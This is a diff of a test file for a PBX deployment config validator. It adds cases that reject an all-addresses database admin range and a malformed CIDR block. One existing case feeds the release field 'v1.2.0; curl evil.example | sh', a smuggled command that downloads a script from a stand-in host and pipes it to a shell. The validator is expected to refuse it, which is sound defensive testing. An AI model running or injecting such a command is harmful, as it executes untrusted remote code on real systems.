@@ -66,6 +66,8 @@ describe("warden-pbx config", () => {
         [{ wardenTimezone: "Mars/Olympus" }, "readiness-kit:wardenTimezone: 'Mars/Olympus' is not an IANA timezone such as UTC or America/Chicago"],
         [{ wardenPbxRelease: "v1.2.0; curl evil.example | sh" }, "readiness-kit:wardenPbxRelease: 'v1.2.0; curl evil.example | sh' is not a Git tag or branch name"],
         [{ wardenPbxRepository: "git@github.com:x/y.git" }, "readiness-kit:wardenPbxRepository: 'git@github.com:x/y.git' is not an https:// Git repository URL"],
+        [{ wardenDbAdminCidrs: ["0.0.0.0/0"] }, "readiness-kit:wardenDbAdminCidrs: the database must not admit every address; name the networks administration connects from"],
+        [{ wardenDbAdminCidrs: ["10.20.300.0/24"] }, "readiness-kit:wardenDbAdminCidrs: '10.20.300.0/24' is not a CIDR block (e.g. 203.0.113.0/24)"],
         [{ wardenDbInstanceClass: "m7g.large" }, "readiness-kit:wardenDbInstanceClass: unknown RDS instance class 'm7g.large' (e.g. db.m7g.large)"],
     ])("refuses %j", (override, problem) => {
         expect(read({ ...valid, ...override }).problems).toEqual([problem]);
